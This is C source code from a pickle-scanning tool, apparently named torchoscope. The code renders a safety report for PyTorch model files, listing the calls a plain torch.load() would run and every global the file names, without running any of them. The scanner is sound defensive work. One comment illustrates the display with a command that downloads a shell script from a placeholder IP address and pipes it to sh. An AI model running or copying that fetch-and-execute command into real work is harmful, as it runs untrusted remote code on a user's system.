/* Details of a file that is not safe: what a load would run, and every global. */
#include <inttypes.h>

#include "base/base.h"
#include "explorer/details_in.h"
#include "facts/facts.h"
#include "facts/summary.h"
#include "rows/value_text.h"
#include "text/text.h"

#define MOST_CALLS   4   /* of things that would be run, told in full */
#define MOST_EVENTS  6   /* where one of them stands */
#define MOST_GLOBALS 200 /* listed */
#define ARGUMENTS    400 /* bytes of arguments shown */
#define WIDE_NAME    44  /* cells; longer names stick out */

static enum trust trust_of(const struct details *d, uint32_t index,
                           const char **ret_about)
{
    return verdict_judge(d->show->model, &d->show->session->verdict, index, ret_about);
}

static const struct pickle_log *log_of(const struct details *d)
{
    return &d->show->model->pickle;
}

/* --- The verdict */

/* "✗ UNSAFE  a plain torch.load() would run a program. torchoscope ran nothing." */
static void verdict_line(struct details *d)
{
    static const char *const meanings[] = {
        [VERDICT_SAFE] = "builds tensors, dicts and plain values only.",
        [VERDICT_NEEDS_CODE] = "names classes outside the allow-list. torchoscope ran "
                               "nothing of them; their data is shown.",
        [VERDICT_UNSAFE] = "a plain torch.load() would run something. torchoscope ran "
                           "nothing.",
        [VERDICT_INCONCLUSIVE] =
            "it could not be decoded to its end, so it is not called safe.",
    };
    enum verdict verdict = d->show->session->verdict.verdict;
    const char *meaning = meanings[verdict];

    if (verdict == VERDICT_UNSAFE && d->show->session->verdict.runs)
        meaning = "a plain torch.load() would run a program. torchoscope ran nothing.";
    buf_text(&d->facts.text, meaning);
    fact_part(&d->facts, COLOUR_NONE);
    fact_end(&d->facts, summary_verdict_word(verdict), summary_verdict_colour(verdict));
}

/* --- What would be run */

/* "posix.system("curl -s http://203.0.113.7/x.sh | sh")" */
static void call_line(struct details *d, const struct pickle_event *event)
{
    const struct model *model = d->show->model;
    const struct pickle_global *global = &log_of(d)->globals[event->global];
    struct buf *text = &d->facts.text;

    escape_terminal(text, model_string(model, global->name));
    if (event->act == PICKLE_CALLS || event->act == PICKLE_MAKES) {
        size_t begin = text->len;

        value_show(text, model, event->args, ARGUMENTS);
        /* Arguments are a tuple; one of a single value ends in a comma. */
        if (text->len > begin + 2 && text->at[text->len - 2] == ',') {
            text->at[text->len - 2] = ')';
            text->len--;
        }
    }
    fact_end(&d->facts, "  call", COLOUR_ALARM)->target =
        event->place == FINDING_NOWHERE ? NO_TARGET : event->place;
}

/* "model_best.pth/data.pkl  byte 15,339 GLOBAL  byte 15,410 REDUCE" */
static void where_line(struct details *d, const struct pickle_global *global)
{
    const struct pickle_log *log = log_of(d);
    struct buf *text = &d->facts.text;
    int n = 0;

    for (uint32_t i = global->first; i != NO_EVENT && n < MOST_EVENTS;
         i = log->events[i].next, n++) {
        const struct pickle_event *event = &log->events[i];

        if (n == 0)
            escape_terminal(
                text, model_string(d->show->model, log->streams[event->stream].name));
        buf_text(text, "  byte ");
        text_commas(text, event->offset);
        buf_printf(text, " %s", pickle_opcode_name(event->opcode));
    }
    if (n > 0)
        fact_end(&d->facts, "  where", COLOUR_NONE);
}

/* The first event that is more than naming it, or the first. */
static const struct pickle_event *worst_event(const struct pickle_log *log,
                                              const struct pickle_global *global)
{
    for (uint32_t i = global->first; i != NO_EVENT; i = log->events[i].next)
        if (log->events[i].act != PICKLE_NAMES)
            return &log->events[i];
    return global->first == NO_EVENT ? NULL : &log->events[global->first];
}

static void danger_lines(struct details *d)
{
    const struct pickle_log *log = log_of(d);
    int n = 0;

    for (uint32_t i = 0; i < log->n_globals && n < MOST_CALLS; i++) {
        const struct pickle_event *event;

        if (trust_of(d, i, NULL) != TRUST_DANGER)
            continue;
        event = worst_event(log, &log->globals[i]);
        if (event)
            call_line(d, event);
        where_line(d, &log->globals[i]);
        n++;
    }
}

/* --- Every global */

static size_t name_width(const struct details *d)
{
    const struct pickle_log *log = log_of(d);
    size_t most = 0;

    for (uint32_t i = 0; i < log->n_globals; i++) {
        size_t width = text_width(model_string(d->show->model, log->globals[i].name));

        most = width > most && width <= WIDE_NAME ? width : most;
    }
    return most;
}

static bool names_dtype(const struct details *d, uint32_t index)
{
    const char *about;

    return trust_of(d, index, &about) == TRUST_KNOWN && about == verdict_names_dtype;
}

/* The columns of the list: names, counts, what each is good for. */
struct safety_columns {
    size_t name, count;
    bool about; /* there is room for it */
};

#define COUNT_CELLS 8  /* of a count, with the gap before it; at least half of them */
#define CALLS_CELLS 6  /* of " calls" */
#define ABOUT_CELLS 22 /* of "  builds a dictionary", and longer ones */

/* Where there is little room, first the gap shrinks; then the last column goes, then
 * long names lose their front. */
static struct safety_columns fit_columns(const struct details *d)
{
    struct safety_columns columns = {name_width(d), COUNT_CELLS, true};
    size_t room = d->width > d->indent + 2 ? d->width - d->indent - 2 : 1;
    size_t want = columns.name + CALLS_CELLS + ABOUT_CELLS;

    if (want + COUNT_CELLS > room)
        columns.count = want + COUNT_CELLS / 2 < room ? room - want : COUNT_CELLS / 2;
    columns.about = want + columns.count <= room;
    if (!columns.about && columns.name + columns.count + CALLS_CELLS > room)
        columns.name = room > columns.count + CALLS_CELLS + 8
                           ? room - columns.count - CALLS_CELLS
                           : 8;
    return columns;
}

/* "✗ posix.system                          1 call   runs a shell command" */
static void global_line(struct details *d, uint32_t index,
                        const struct safety_columns *columns, const char *label)
{
    static const char *const signs[] = {"✓", "!", "✗"};
    static const enum colour roles[] = {COLOUR_NONE, COLOUR_WARNING, COLOUR_ALARM};
    const struct pickle_global *global = &log_of(d)->globals[index];
    uint64_t calls = global->acts[PICKLE_CALLS] + global->acts[PICKLE_MAKES];
    uint64_t n = calls > 0 ? calls : global->acts[PICKLE_NAMES];
    struct buf *text = &d->facts.text;
    struct buf name = BUF_INIT, cut = BUF_INIT, count = BUF_INIT;
    const char *about;
    enum trust trust = trust_of(d, index, &about);

    escape_terminal(&name, model_string(d->show->model, global->name));
    text_commas(&count, n);
    buf_printf(text, "%s ", signs[trust]);
    text_cut_front(&cut, buf_span(&name), columns->about ? SIZE_MAX / 2 : columns->name,
                   "…");
    text_pad(text, buf_span(&cut), columns->name);
    text_pad_left(text, buf_span(&count), columns->count);
    buf_printf(text, " %s",
               calls > 0 ? n == 1 ? "call " : "calls"
               : n == 1  ? "use  "
                         : "uses ");
    if (*about && columns->about)
        buf_printf(text, "  %s", about);
    fact_end(&d->facts, label, roles[trust]);
    buf_release(&name);
    buf_release(&cut);
    buf_release(&count);
}

/* "✓ torch.FloatStorage, torch.LongStorage          names a dtype": all on one line. */
static void dtypes_line(struct details *d, const struct safety_columns *columns)
{
    const struct pickle_log *log = log_of(d);
    struct buf *text = &d->facts.text, names = BUF_INIT;

    for (uint32_t i = 0; i < log->n_globals; i++) {
        if (!names_dtype(d, i))
            continue;
        buf_text(&names, names.len > 0 ? ", " : "");
        escape_terminal(&names, model_string(d->show->model, log->globals[i].name));
    }
    if (names.len > 0) {
        buf_text(text, "✓ ");
        text_pad(text, buf_span(&names), columns->name + columns->count + CALLS_CELLS);
        if (columns->about)
            buf_text(text, "  names a dtype");
        fact_end(&d->facts, "", COLOUR_NONE);
    }
    buf_release(&names);
}

static void global_lines(struct details *d)
{
    static const enum trust order[] = {TRUST_DANGER, TRUST_UNKNOWN, TRUST_KNOWN};
    const struct pickle_log *log = log_of(d);
    struct safety_columns columns = fit_columns(d);
    uint32_t n = 0;

    for (size_t k = 0; k < COUNT_OF(order); k++)
        for (uint32_t i = 0; i < log->n_globals; i++)
            if (trust_of(d, i, NULL) == order[k] && !names_dtype(d, i) &&
                model_string(d->show->model, log->globals[i].name).len > 0 &&
                n++ < MOST_GLOBALS)
                global_line(d, i, &columns, n == 1 ? "globals" : "");
    dtypes_line(d, &columns);
    if (n > MOST_GLOBALS) {
        buf_printf(&d->facts.text, "… %" PRIu32 " more", n - MOST_GLOBALS);
        fact_end(&d->facts, "", COLOUR_DIM);
    }
}

void details_safety(struct details *d)
{
    verdict_line(d);
    danger_lines(d);
    global_lines(d);
    if (d->show->session->verdict.verdict == VERDICT_UNSAFE &&
        d->show->session->total.tensors > 0) {
        buf_text(&d->facts.text, "can be saved without the program:  "
                                 ":export tensors.safetensors");
        fact_end(&d->facts, "tensors", COLOUR_NONE);
    }
}
